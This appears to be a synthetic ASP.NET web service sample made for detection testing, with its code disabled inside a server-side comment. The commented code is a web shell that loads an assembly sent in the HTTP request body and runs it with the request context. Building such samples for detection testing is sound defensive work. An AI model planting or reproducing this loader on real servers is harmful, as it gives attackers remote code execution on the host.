<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<%@ WebService Language="C#" Class="S"%>
public class S : WebService { [WebMethod(EnableSession = true)] public void R() { object o = AppDomain.CurrentDomain.Load(Unwrap(Context.Request.BinaryRead(Context.Request.ContentLength))).CreateInstance("Mod"); o.Equals(Context); } }
--%>
